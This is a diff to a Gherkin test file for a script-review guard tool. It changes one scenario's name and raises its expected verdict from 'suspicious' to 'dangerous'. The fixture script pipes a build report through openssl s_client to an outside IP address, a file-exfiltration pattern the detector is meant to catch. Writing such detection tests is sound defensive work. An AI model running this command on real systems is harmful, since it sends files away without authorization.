@@ -55,7 +55,7 @@ Feature: Names of secrets and TLS probes fed the script's own words
     When I run "terraphim-agent guard review-script --json cert-quit.sh"
     Then the JSON field "verdict" is "clean"
 
-  Scenario: a report read from a file streamed to openssl s_client is flagged
+  Scenario: a report read from a file streamed to openssl s_client is the file sent away
     Given a project file "cert-report.sh" containing:
       """
       #!/usr/bin/env bash
@@ -63,4 +63,4 @@ Feature: Names of secrets and TLS probes fed the script's own words
       cat build/scan-report.json | openssl s_client -quiet -connect 203.0.113.9:6514 2>/dev/null
       """
     When I run "terraphim-agent guard review-script --json cert-report.sh"
-    Then the JSON field "verdict" is "suspicious"
+    Then the JSON field "verdict" is "dangerous"
